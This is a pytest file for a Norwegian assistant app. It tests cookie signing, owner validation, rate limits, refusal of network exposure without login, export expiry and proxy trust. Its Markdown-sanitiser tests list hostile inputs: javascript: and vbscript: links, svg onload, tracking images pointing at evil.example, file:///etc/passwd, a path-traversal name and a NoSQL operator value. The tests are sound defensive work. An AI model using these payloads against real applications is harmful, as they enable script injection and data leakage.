"""Pure pieces of issue 8: cookie signing, owner checks, rate limits, start-up exposure check,
download expiry, and Markdown made inert (no remote images, no HTML, only safe links)."""

from __future__ import annotations

import os
import time
from types import SimpleNamespace

import pytest

from assistant.catalog import BUILT_IN
from assistant.services.exports import ExportStore
from assistant.settings import Settings
from assistant.ui.identity import CookieSigner, Identity, IdentityError, RateLimiter, valid_owner
from assistant.ui.launch import ExposedWithoutLogin, check_exposure
from assistant.ui.render import safe_markdown, sources_markdown

SECRET = b"test-secret-not-for-production"


def test_signed_cookie_round_trip_and_tampering():
    signer = CookieSigner(SECRET)
    value = signer.sign("A" * 43)
    assert signer.verify(value) == "A" * 43
    owner = signer.owner_of(value)
    assert valid_owner(owner) and owner.startswith("anon:") and "A" * 43 not in owner
    for forged in [value[:-1] + ("0" if value[-1] != "0" else "1"), "A" * 43 + ".", "x.y", "", None,
                   CookieSigner(b"other secret").sign("A" * 43), value + ".extra"]:
        assert signer.verify(forged) is None and signer.owner_of(forged) is None


@pytest.mark.parametrize("owner, ok", [
    ("anon:" + "0" * 32, True), ("user:kari", True), ("anon:xyz", False), ("session:abc", False),
    ({"$ne": 1}, False), ("user:" + "k" * 100_000, False), ("user:kari\x00", False), ("", False),
])
def test_owner_values_are_validated(owner, ok):
    assert valid_owner(owner) is ok


def request(username, session_hash="s1"):
    return SimpleNamespace(username=username, session_hash=session_hash)


def test_a_session_stays_with_the_owner_that_first_used_it():
    identity = Identity(Settings(), CookieSigner(SECRET), BUILT_IN)
    alice, bob = "anon:" + "a" * 32, "anon:" + "b" * 32
    assert identity.owner(request(alice)) == alice
    with pytest.raises(IdentityError, match="tilhører en annen bruker"):
        identity.owner(request(bob))
    assert identity.owner(request(bob, "s2")) == bob
    with pytest.raises(IdentityError):
        identity.owner(request(None))
    with pytest.raises(IdentityError):
        identity.owner(request("anon:not-a-digest", "s3"))


def test_login_names_become_user_owners():
    identity = Identity(Settings(auth="kari:hemmelig"), CookieSigner(SECRET), BUILT_IN)
    assert identity.owner(request("kari")) == "user:kari"


def test_rate_limiter_counts_per_key_within_the_window():
    limiter = RateLimiter(limit=2, window_s=0.2)
    assert limiter.hit("a") and limiter.hit("a") and not limiter.hit("a")
    assert limiter.blocked("a") and not limiter.blocked("b") and limiter.hit("b")
    time.sleep(0.25)
    assert not limiter.blocked("a") and limiter.hit("a")


@pytest.mark.parametrize("host, auth, open_deployment, refused", [
    ("127.0.0.1", None, False, False), ("localhost", None, False, False),
    ("0.0.0.0", None, False, True), ("0.0.0.0", "kari:hemmelig", False, False), ("0.0.0.0", None, True, False),
])
def test_listening_on_the_network_needs_login_or_an_explicit_open_setting(host, auth, open_deployment, refused):
    settings = Settings(host=host, auth=auth, open_deployment=open_deployment)
    if refused:
        with pytest.raises(ExposedWithoutLogin, match="GNIST_AUTH"):
            check_exposure(settings, BUILT_IN)
    else:
        check_exposure(settings, BUILT_IN)


def test_exports_belong_to_their_owner_and_expire(tmp_path):
    store = ExportStore(tmp_path / "exports", SECRET, ttl_minutes=1)
    alice, bob = "anon:" + "a" * 32, "anon:" + "b" * 32
    path = store.path_for(alice, "../../gnist-mine-data.json")
    path.write_text("{}", encoding="utf-8")
    assert path.name == "gnist-mine-data.json" and path.is_relative_to(tmp_path / "exports")
    assert alice not in str(path)
    assert store.belongs_to(path, alice) and not store.belongs_to(path, bob)
    assert not store.belongs_to(tmp_path / "elsewhere.json", alice)
    old = time.time() - 120
    os.utime(path.parent, (old, old))
    assert store.expire() == 1 and not path.exists()
    fresh = store.path_for(bob, "x.md")
    fresh.write_text("x", encoding="utf-8")
    store.delete_owner(bob)
    assert not fresh.exists()


@pytest.mark.parametrize("text, kept, gone", [
    ("Se ![kart](http://evil.example/x.png?q=hemmelig) her", "Se kart her", "evil.example"),
    ("![a][ref]\n\n[ref]: http://evil.example/p.png", "a", "evil.example"),
    ('<img src="http://evil.example/b.png"> tekst', "&lt;img", "<img"),
    ("<iframe src=http://evil.example></iframe>", "&lt;iframe", "<iframe"),
    ("[klikk](javascript:alert(1))", "klikk", "javascript:"),
    ("[![logo](http://evil.example/l.png)](https://doga.no)", '<a href="https://doga.no"', "evil.example"),
    # Issue 18: nested brackets, angle-bracket and data: addresses, an escaped image, raw HTML of
    # every kind, a reference image across lines, an image in a table, a link with a bad scheme.
    ("![a[b]](http://evil.example/x)", "a[b]", "evil.example"),
    ("![a [b [c]]](http://evil.example/x)", "a [b [c]]", "evil.example"),
    ("![x](<http://evil.example/x y.png>)", "x", "evil.example"),
    ("![x](data:image/png;base64,iVBORw0KGgo=)", "x", "data:"),
    ("\\![a](http://evil.example/x)", "!", "<img"),
    ('<svg onload="alert(1)"><image href="http://evil.example/s"/></svg>', "&lt;svg", "<svg"),
    ("<style>body{background:url(http://evil.example/c)}</style>", "&lt;style", "<style"),
    ("Tekst\n\n![a][r]\n\n[r]: <http://evil.example/p.png>", "a", "evil.example"),
    ("| a | b |\n|---|---|\n| ![i](http://evil.example/t) | 2 |", "<td>i</td>", "evil.example"),
    ("[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](//evil.example/x)", "x y z", "href"),
    ("[DOGA](https://doga.no \"tittel\" onclick=alert(1))", "DOGA", "<a"),
])
def test_safe_markdown_leaves_nothing_that_loads_by_itself(text, kept, gone):
    safe = safe_markdown(text)
    assert kept in safe and gone not in safe
    assert "<img" not in safe and "<script" not in safe


def test_safe_markdown_keeps_ordinary_answers_and_safe_links():
    answer = "Egenandelen er **200 000 kr** [1].\n\n- punkt\n\nLes mer på [DOGA](https://doga.no/gnist)."
    assert safe_markdown(answer) == (
        '<p>Egenandelen er <strong>200 000 kr</strong> [1].</p>\n<ul>\n<li>punkt</li>\n</ul>\n'
        '<p>Les mer på <a href="https://doga.no/gnist" rel="noopener noreferrer nofollow">DOGA</a>.</p>')
    assert safe_markdown("Skriv til [oss](mailto:gnist@doga.no), 1. mars") == (
        'Skriv til <a href="mailto:gnist@doga.no" rel="noopener noreferrer nofollow">oss</a>, 1. mars')


def test_text_left_by_the_parser_is_not_an_image_for_the_pages_own_markdown_renderer():
    """Gradio renders Markdown again in the page: text that the parser left as text (an escaped
    image, code) must not become an image or a link there."""
    from markdown_it import MarkdownIt

    for text in ("\\![a](http://evil.example/x)", "`![a](http://evil.example/x)`", "\\[a]: http://evil.example/x"):
        again = MarkdownIt("commonmark", {"html": True}).render(safe_markdown(text))
        assert "<img" not in again and 'href="http://evil.example' not in again.replace(
            safe_markdown(text), ""), (text, again)


def test_sources_panel_strips_images_from_document_text():
    citation = {"n": 1, "title": "Notat ![t](http://evil.example/t.png)", "locator": "s. 1",
                "source": "notat.md", "text": "Fakta. ![beacon](http://evil.example/b.png?x=1)",
                "links": ["https://doga.no", "javascript:alert(1)"]}
    panel = sources_markdown([citation], "")
    assert "evil.example" not in panel and "javascript:" not in panel and "<https://doga.no>" in panel


def test_administrators_by_login_name_or_by_the_proxys_group_claim():
    from types import SimpleNamespace

    settings = Settings(trusted_user_header="X-Forwarded-User", trusted_groups_header="X-Forwarded-Groups",
                        admin_group="gnist-admin", admin_users=["ola@lom.kommune.no"], trusted_proxies=["10.0.0.0/8"])
    identity = Identity(settings, CookieSigner(SECRET), BUILT_IN)

    def request(user: str, groups: str, address: str = "10.1.2.3"):
        return SimpleNamespace(username=user, session_hash=None, client=SimpleNamespace(host=address),
                               headers={"x-forwarded-groups": groups})

    assert identity.is_admin(request("anne@fylket.no", "ansatte, gnist-admin"))
    assert identity.is_admin(request("ola@lom.kommune.no", ""))
    assert not identity.is_admin(request("kari@bjorkedal.kommune.no", "ansatte"))
    # A group claim from any other address than the proxy's is not believed.
    assert not identity.is_admin(request("anne@fylket.no", "gnist-admin", address="192.168.1.9"))
    # Without login nobody is an administrator, whatever the settings say.
    anonymous = Identity(Settings(admin_users=["ola@lom.kommune.no"]), CookieSigner(SECRET), BUILT_IN)
    assert not anonymous.is_admin(request("ola@lom.kommune.no", "gnist-admin"))


def test_rate_limits_count_the_browser_behind_a_trusted_proxy_and_the_peer_otherwise():
    from assistant.ui.identity import TrustedProxy

    proxy = TrustedProxy(Settings(trusted_proxies=["10.0.0.0/8"]))

    def scope(peer: str, forwarded: str | None):
        headers = [(b"x-forwarded-for", forwarded.encode())] if forwarded else []
        return {"client": (peer, 443), "headers": headers}

    assert proxy.browser_address(scope("10.0.0.5", "198.51.100.1, 203.0.113.7")) == "203.0.113.7"
    assert proxy.browser_address(scope("10.0.0.5", None)) == "10.0.0.5"
    assert proxy.browser_address(scope("192.0.2.9", "203.0.113.7")) == "192.0.2.9"  # a forged hop
